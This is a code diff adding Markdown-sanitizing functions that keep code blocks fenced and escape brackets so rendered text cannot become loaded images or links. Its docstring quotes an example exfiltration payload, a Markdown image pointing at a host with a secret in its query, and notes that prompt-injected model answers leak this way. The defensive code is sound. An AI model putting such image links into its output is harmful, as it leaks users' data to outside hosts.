@@ -53,8 +53,46 @@ def esc(text: str) -> str:
     return html.escape(text, quote=True)
 
 
+# A fenced code block, closed or running to the end of the text (as CommonMark reads one).
+_FENCED = re.compile(
+    r"^[ \t]{0,3}(`{3,}|~{3,})([^\n]*)\n?(.*?)(?:^[ \t]{0,3}\1[ \t]*$|\Z)", re.M | re.S
+)
+_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.S)
+
+
 def inert(text: str) -> str:
     """Document or model text for a Markdown view (chat bubbles, quiz cards): HTML-escaped, and
     brackets escaped so `![x](http://host/?q=secret)` or `[a][ref]` can never become an image or
-    link that the browser loads — the classic way a note (or a prompt-injected answer) leaks."""
+    link that the browser loads — the classic way a note (or a prompt-injected answer) leaks.
+    Code stays code, as written (`x < y`, not `x &lt; y`): the Markdown renderer escapes a code
+    block itself, and each block is re-fenced with more backticks than it holds, so nothing in
+    it can close the fence early and let the rest out as Markdown."""
+    out, pos = [], 0
+    for m in _FENCED.finditer(text):
+        out.append(_inert_spans(text[pos : m.start()]))
+        info = re.sub(r"[^\w+-]", "", m.group(2))  # a language name, nothing that could escape
+        out.append(_fence(m.group(3).rstrip("\n"), info))
+        pos = m.end()
+    out.append(_inert_spans(text[pos:]))
+    return "".join(out)
+
+
+def _fence(code: str, info: str = "") -> str:
+    ticks = "`" * max(3, 1 + max((len(r) for r in re.findall(r"`+", code)), default=0))
+    return f"{ticks}{info}\n{code}\n{ticks}\n"
+
+
+def _inert_spans(text: str) -> str:
+    out, pos = [], 0
+    for m in _CODE_SPAN.finditer(text):
+        out.append(_inert_plain(text[pos : m.start()]))
+        code = m.group(2)
+        ticks = "`" * (1 + max((len(r) for r in re.findall(r"`+", code)), default=0))
+        out.append(f"{ticks} {code} {ticks}" if "`" in code else f"`{code}`")
+        pos = m.end()
+    out.append(_inert_plain(text[pos:]))
+    return "".join(out)
+
+
+def _inert_plain(text: str) -> str:
     return esc(display_math(text)).replace("[", "\\[").replace("]", "\\]")
